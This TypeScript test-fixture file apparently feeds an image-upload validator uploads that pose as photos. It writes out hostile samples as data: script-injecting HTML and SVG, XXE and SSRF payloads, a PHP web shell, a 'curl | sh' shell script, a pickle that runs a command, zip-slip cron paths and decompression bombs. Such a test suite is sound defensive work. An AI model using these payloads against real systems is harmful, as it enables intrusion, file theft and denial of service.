import { deflateRawSync, gzipSync } from 'node:zlib'
import { canary, type HostileUpload, hostile } from './hostile-upload.ts'

const script = `<script>alert('${canary}')</script>`
const latin = (text: string) => Buffer.from(text, 'latin1')

/** What calls itself a photo and is a document, a program, an archive or a picture of a kind that we do not take. */
export function noPictures(): HostileUpload[] {
  return [...texts(), ...documents(), ...programs(), ...archives(), ...others(), ...ends()]
}

function texts(): HostileUpload[] {
  const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')
  const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400">${inside}</svg>`
  return [
    hostile('HTML', latin(`<!doctype html>${script}`)),
    hostile('HTML after blanks', latin(`${' '.repeat(5_000)}<html>${script}`)),
    hostile('HTML in UTF-16', Buffer.from(`\ufeff<html>${script}`, 'utf16le')),
    hostile('HTML in UTF-7', latin('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')),
    hostile('SVG with a script', latin(svg(script)), { contentType: 'image/png', filename: 'licence.png' }),
    hostile('SVG with a handler', latin(svg(`<g onload="alert('${canary}')"/>`))),
    hostile(
      'SVG that reads a file',
      latin(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`),
    ),
    hostile(
      'SVG of a billion laughs',
      latin(`<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]>${svg('<text>&e9;</text>')}`),
    ),
    hostile('SVG that loads another', latin(svg('<image href="http://169.254.169.254/latest/meta-data"/>'))),
    hostile('SVG, packed', gzipSync(svg(script))),
    hostile('JavaScript', latin(`alert('${canary}')//`)),
    hostile('JSON', latin('{"__proto__":{"admin":true}}')),
    hostile('PHP', latin('<?php system($_GET["c"]); ?>'), { filename: 'licence.php.jpg' }),
    hostile('a page of the web in one file', latin(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${script}`)),
    hostile(
      'a picture by coordinates (MVG)',
      latin("push graphic-context\nfill 'url(https://x/|id)'\npop graphic-context"),
    ),
    hostile(
      'the test file of virus scanners',
      latin(
        ['X5O!P%@AP[4', 'PZX54(P^)7CC)7}$EICAR-STANDARD', '-ANTIVIRUS-TEST-FILE!$H+H*'].join(String.fromCharCode(92)),
      ),
    ),
  ]
}

function documents(): HostileUpload[] {
  const pdf = (objects: string) => latin(`%PDF-1.7\n${objects}\ntrailer<</Root 1 0 R>>\n%%EOF`)
  const word = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(2_000),
    latin('Attribut\0e VB_Name = "AutoOpen"'),
  ])
  return [
    hostile('PDF with JavaScript', pdf(`1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('${canary}'))>>>>endobj`)),
    hostile('PDF that starts a program', pdf('1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj')),
    hostile('PDF with a file inside', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')),
    hostile('PDF that is HTML too', latin(`%PDF-1.4\n<html>${script}\n%%EOF`)),
    hostile('PostScript that reads files', latin('%!PS\n(/etc/passwd) (r) file 1000 string readstring pop print')),
    hostile(
      'PostScript with a preview',
      Buffer.concat([Buffer.from('c5d0d3c6', 'hex'), Buffer.alloc(30), latin('%!PS')]),
    ),
    hostile('a document of Word with macros', word),
    hostile('a document of Word with macros, packed', zip([['word/vbaProject.bin', word]])),
    hostile('a sheet with a formula', zip([['xl/worksheets/sheet1.xml', latin('<f>HYPERLINK("http://x")</f>')]])),
    hostile('rich text with an object', latin('{\\rtf1{\\object\\objdata 0105}}')),
    hostile('compiled help', latin(`ITSF\x03\0\0\0${canary}`)),
  ]
}

function programs(): HostileUpload[] {
  const begin = (hex: string) => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(400, 0x90)])
  return [
    hostile('a program of Linux', begin('7f454c46020101')),
    hostile('a program of Windows', begin('4d5a9000'), { filename: 'licence.jpg.exe' }),
    hostile('a program of macOS', begin('cffaedfe')),
    hostile('a class of Java', begin('cafebabe00000034')),
    hostile('WebAssembly', begin('0061736d01000000')),
    hostile('a film of Flash', begin('46575306')),
    hostile('a script of a shell', latin('#!/bin/sh\ncurl http://x | sh\n')),
    hostile('a batch file', latin('@echo off\r\npowershell -enc AAAA\r\n')),
    hostile('a link of Windows', begin('4c0000000114020000000000c000000000000046')),
    hostile('a database of SQLite', latin(`SQLite format 3\0${'\0'.repeat(100)}`)),
    hostile('a pickle of Python', latin("\x80\x04cposix\nsystem\n(S'id'\ntR.")),
  ]
}

function archives(): HostileUpload[] {
  const header = Buffer.alloc(512)
  header.write('../../../etc/cron.d/x')
  return [
    hostile('an archive that leads out', zip([['../../../../etc/cron.d/x', latin('* * * * * root id')]])),
    hostile('an archive with an absolute name', zip([['/etc/passwd', latin('x')]])),
    hostile('an archive that leads out in the way of Windows', zip([['..\\..\\windows\\x.dll', latin('x')]])),
    hostile('an archive of 200 MB of nothing', zip([['0', Buffer.alloc(200_000_000)]])),
    hostile('an archive in archives', zip([['a.zip', zip([['b.zip', zip([['c', Buffer.alloc(1_000_000)]])]])]])),
    hostile('a gzip of 200 MB of nothing', gzipSync(Buffer.alloc(200_000_000))),
    hostile('a tape that leads out', header),
    hostile('an archive of another kind (7z)', Buffer.from('377abcaf271c0004', 'hex')),
    hostile('an archive of another kind (RAR)', Buffer.from('526172211a0701', 'hex')),
    hostile('an archive of another kind (xz)', Buffer.from('fd377a585a00', 'hex')),
  ]
}

/** Pictures, films and sounds whose decoders we keep shut. */
function others(): HostileUpload[] {
  const gif = (width: number, height: number, rest: Buffer) => {
    const head = Buffer.alloc(13)
    head.write('GIF89a', 'latin1')
    head.writeUInt16LE(width, 6)
    head.writeUInt16LE(height, 8)
    return Buffer.concat([head, rest])
  }
  const frame = Buffer.from('21f90400010000002c00000000010001000002024c01003b', 'hex').subarray(0, -1)
  const tiff = Buffer.alloc(64)
  tiff.write('II*\0', 'latin1')
  tiff.writeUInt32LE(8, 4)
  // One entry, and the next directory is this one.
  tiff.writeUInt16LE(1, 8)
  tiff.writeUInt32LE(8, 22)
  const bitmap = Buffer.alloc(64)
  bitmap.write('BM', 'latin1')
  bitmap.writeUInt32LE(40, 14)
  bitmap.writeInt32LE(0x7fffffff, 18)
  bitmap.writeInt32LE(-0x7fffffff, 22)
  return [
    hostile('GIF that is JavaScript', latin('GIF89a/*\x01\x00*/=1;alert(1)')),
    hostile('GIF of 65,535 × 65,535', gif(65_535, 65_535, Buffer.from([0x3b]))),
    hostile(
      'GIF of 100,000 frames',
      gif(1, 1, Buffer.concat([...Array.from({ length: 100_000 }, () => frame), Buffer.from([0x3b])])),
    ),
    hostile('TIFF in a circle', tiff),
    hostile(
      'TIFF of 4,000,000,000 × 1',
      Buffer.concat([latin('MM\0*\0\0\0\x08'), Buffer.from('0001010000040000000100ee6b280000', 'hex')]),
    ),
    hostile('bitmap of 2,147,483,647 × 2,147,483,647', bitmap),
    hostile('icon with a picture of no size', Buffer.from('00000100010000000000010020ff0000ffff16000000', 'hex')),
    hostile('cursor', Buffer.from('0000020001002020000001000100a80c000016000000', 'hex')),
    hostile(
      'WebP that says 16,384 × 16,384',
      Buffer.concat([latin('RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0'), Buffer.from('ff3f00ff3f00', 'hex')]),
    ),
    hostile(
      'AVIF',
      Buffer.concat([Buffer.from('0000001c', 'hex'), latin('ftypavif\0\0\0\0avifmif1'), Buffer.alloc(400)]),
    ),
    hostile('JPEG XL', Buffer.from('ff0a0000', 'hex')),
    hostile('JPEG 2000', Buffer.from('0000000c6a5020200d0a870a', 'hex')),
    hostile('layers of Photoshop', Buffer.concat([latin('8BPS\0\x01'), Buffer.alloc(40, 0xff)])),
    hostile(
      'a film',
      Buffer.concat([Buffer.from('00000018', 'hex'), latin('ftypmp42\0\0\0\0mp42isom'), Buffer.alloc(400)]),
    ),
    hostile('a film of the web', Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d', 'hex')),
    hostile('a sound', latin(`ID3\x04\0\0\0\0\0\x23${canary}`)),
    hostile('a font', latin(`wOFF\0\x01\0\0${canary}`)),
    hostile('a picture of OpenEXR', Buffer.from('762f310102000000', 'hex')),
    hostile('a plain map of pixels', latin('P6\n99999999 99999999\n255\n')),
  ]
}

function ends(): HostileUpload[] {
  return [
    hostile('nothing', Buffer.alloc(0)),
    hostile('one byte', Buffer.from([0xff])),
    hostile('zeros', Buffer.alloc(100_000)),
    hostile('noise', Buffer.from(Array.from({ length: 50_000 }, (_, at) => (at * at * 7919) % 251))),
    hostile('12 MB', Buffer.alloc(12_000_000, 0xff)),
  ]
}

/** A ZIP archive of these files; no name is looked at. */
function zip(files: readonly (readonly [string, Buffer])[]): Buffer {
  const parts = files.map(([name, bytes]) => {
    const packed = deflateRawSync(bytes)
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt32LE(bytes.length, 22)
    head.writeUInt16LE(Buffer.byteLength(name), 26)
    return Buffer.concat([head, Buffer.from(name), packed])
  })
  return Buffer.concat(parts)
}
